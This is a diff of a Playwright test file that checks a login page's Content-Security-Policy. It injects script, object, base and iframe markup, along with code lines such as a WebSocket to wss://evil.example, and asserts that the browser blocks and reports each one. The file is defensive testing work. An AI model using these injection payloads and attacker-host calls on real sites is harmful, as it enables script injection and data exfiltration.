@@ -1,35 +1,22 @@
 import { expect, test, type Page } from '@playwright/test'
-import { headerRules, headersFor, policyOf, policyText } from '@/build/headers'
 import { paths } from '@/paths'
 import { NGINX_URL } from '../../e2e/playwright.config'
 
 /**
  * The page as nginx sends it with something put into it: nothing of that runs, loads or leaves, and
- * the browser reports each.
+ * the browser reports each. What hosts a build allows is in src/build/headers.test.ts.
  */
 
 const EVIL = 'https://evil.example'
-/** As a live build names its hosts; where it names none, any https host may be one of them. */
-const HOSTS = { VITE_MEDIA_HOSTS: 'cdn.example', VITE_SERVICE_HOSTS: 'chat.example' }
-
 interface Held {
   directive: string
   /** What the browser names as held: an address, or a kind. */
   blocked: string
 }
 
-interface Attempt extends Held {
-  name: string
-  /** Held by the policy of any build, whatever hosts its settings name. */
-  always: boolean
-}
+type Attempt = Held & { name: string }
 
-const attempt = (name: string, directive: string, blocked: string, always = true): Attempt => ({
-  name,
-  directive,
-  blocked,
-  always,
-})
+const attempt = (name: string, directive: string, blocked: string): Attempt => ({ name, directive, blocked })
 
 const MARKUP: readonly Attempt[] = [
   attempt(`<script>ran.push('script')</script>`, 'script-src-elem', 'inline'),
@@ -42,10 +29,7 @@ const MARKUP: readonly Attempt[] = [
   attempt(`<object data="${EVIL}/o.svg"></object>`, 'object-src', EVIL),
   attempt(`<base href="${EVIL}/">`, 'base-uri', `${EVIL}/`),
   attempt(`<iframe src="data:text/html,<script>top.ran.push(1)</script>"></iframe>`, 'frame-src', ''),
-  attempt(`<iframe src="${EVIL}/frame"></iframe>`, 'frame-src', EVIL, false),
-  attempt(`<img src="${EVIL}/i.png">`, 'img-src', `${EVIL}/i.png`, false),
   attempt(`<img src="http://evil.example/i.png">`, 'img-src', 'http://evil.example/i.png'),
-  attempt(`<video src="${EVIL}/v.mp4"></video>`, 'media-src', `${EVIL}/v.mp4`, false),
 ]
 
 /** One for each kind of what is trusted: which of its functions ask for it is the browser's own. */
@@ -53,9 +37,7 @@ const unsafe = (code: string) => attempt(code, 'require-trusted-types-for', 'tru
 
 /** By code that runs already, as an injected one would go on: each line is one function's body. */
 const CODE: readonly Attempt[] = [
-  attempt(`fetch('${EVIL}/fetch').catch(() => 0)`, 'connect-src', `${EVIL}/fetch`, false),
   attempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
-  attempt(`navigator.sendBeacon('${EVIL}/beacon', 'x')`, 'connect-src', `${EVIL}/beacon`, false),
   attempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
   attempt(`new FontFace('x', 'url(${EVIL}/f.woff2)').load().catch(() => 0)`, 'font-src', `${EVIL}/f.woff2`),
   attempt(`new Worker(URL.createObjectURL(new Blob(['ran.push(1)'])))`, 'worker-src', 'blob'),
@@ -79,12 +61,8 @@ declare global {
   var make: (tag: string) => HTMLElement
 }
 
-type Settings = Readonly<Record<string, string>>
-
-const META = /(http-equiv="Content-Security-Policy" content=")[^"]*/
-
-/** Opens Log-in with markup in it, by the policy of nginx or of the same build with `settings`. */
-async function openWith(page: Page, markup: string, settings: Settings | null): Promise<string[]> {
+/** Opens Log-in with markup in it. @returns what goes to other hosts */
+async function openWith(page: Page, markup: string): Promise<string[]> {
   const left: string[] = []
   await page.route(/^(?:https|http:\/\/evil)/, (route) => {
     left.push(route.request().url())
@@ -103,15 +81,8 @@ async function openWith(page: Page, markup: string, settings: Settings | null): 
     const response = await route.fetch()
     const html = await response.text()
     // Unpacked here, and of another length.
-    const { 'content-encoding': _encoding, 'content-length': _length, ...sent } = response.headers()
-    const policy =
-      settings === null ? '' : (headersFor('/', headerRules(html, settings))['Content-Security-Policy'] ?? '')
-    const headers = settings === null ? sent : { ...sent, 'content-security-policy': policy }
-    const body =
-      settings === null
-        ? html
-        : html.replace(META, (_all, start: string) => start + policyText(policyOf(html, settings)))
-    return route.fulfill({ response, headers, body: body.replace('</body>', () => `${markup}</body>`) })
+    const { 'content-encoding': _encoding, 'content-length': _length, ...headers } = response.headers()
+    return route.fulfill({ response, headers, body: html.replace('</body>', () => `${markup}</body>`) })
   })
   await page.goto(`${NGINX_URL}${paths.login()}`)
   await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
@@ -125,45 +96,35 @@ async function expectNothing(page: Page, left: readonly string[]): Promise<void>
   expect(left).toEqual([])
 }
 
-const bySettings = [
-  ['the policy that nginx sends', null],
-  ['the policy of a build that names its hosts', HOSTS],
-] as const
-
 test.use({ serviceWorkers: 'allow', contextOptions: { reducedMotion: 'reduce' } })
 
-for (const [policy, settings] of bySettings) {
-  const tried = (attempts: readonly Attempt[]) => attempts.filter(({ always }) => always || settings !== null)
+test('what is put into the page is held, and the app stands', async ({ page }) => {
+  const left = await openWith(page, MARKUP.map(({ name }) => name).join('\n'))
+  const expected = MARKUP.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
+  // Each twice, by the policy in the page and the one in the header; nothing else is reported.
+  const reported = async () => {
+    const held = await page.evaluate(() => globalThis.held)
+    return held.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
+  }
+  await expect.poll(async () => [...new Set(await reported())]).toEqual([...new Set(expected)])
+  expect(await reported()).toEqual(expected.flatMap((each) => [each, each]))
+  await expectNothing(page, left)
+  await page.getByLabel('Username').fill('wulan_r')
+  await expect(page.getByLabel('Username')).toHaveValue('wulan_r')
+})
 
-  test(`what is put into the page is held by ${policy}, and the app stands`, async ({ page }) => {
-    const attempts = tried(MARKUP)
-    const left = await openWith(page, attempts.map(({ name }) => name).join('\n'), settings)
-    const expected = attempts.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
-    // Each twice, by the policy in the page and the one in the header; nothing else is reported.
-    const reported = async () => {
-      const held = await page.evaluate(() => globalThis.held)
-      return held.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
-    }
-    await expect.poll(async () => [...new Set(await reported())]).toEqual([...new Set(expected)])
-    expect(await reported()).toEqual(expected.flatMap((each) => [each, each]))
-    await expectNothing(page, left)
-    await page.getByLabel('Username').fill('wulan_r')
-    await expect(page.getByLabel('Username')).toHaveValue('wulan_r')
-  })
-
-  test(`what injected code would do next is held by ${policy}`, async ({ page }) => {
-    const left = await openWith(page, '', settings)
-    expect(await page.evaluate(() => held)).toEqual([])
-    for (const { name, directive, blocked } of tried(CODE))
-      await test.step(name, async () => {
-        await page.evaluate(() => (held.length = 0))
-        // In a task of the page: what the debugger runs may do more.
-        await page.evaluate(`setTimeout(() => { ${name} })`)
-        await expect
-          .poll(() => page.evaluate(() => held.map((each) => `${each.directive} ${each.blocked}`)))
-          .toContain(`${directive} ${blocked}`)
-      })
-    await expectNothing(page, left)
-    expect(await page.evaluate(() => location.pathname)).toBe(paths.login())
-  })
-}
+test('what injected code would do next is held', async ({ page }) => {
+  const left = await openWith(page, '')
+  expect(await page.evaluate(() => held)).toEqual([])
+  for (const { name, directive, blocked } of CODE)
+    await test.step(name, async () => {
+      await page.evaluate(() => (held.length = 0))
+      // In a task of the page: what the debugger runs may do more.
+      await page.evaluate(`setTimeout(() => { ${name} })`)
+      await expect
+        .poll(() => page.evaluate(() => held.map((each) => `${each.directive} ${each.blocked}`)))
+        .toContain(`${directive} ${blocked}`)
+    })
+  await expectNothing(page, left)
+  expect(await page.evaluate(() => location.pathname)).toBe(paths.login())
+})
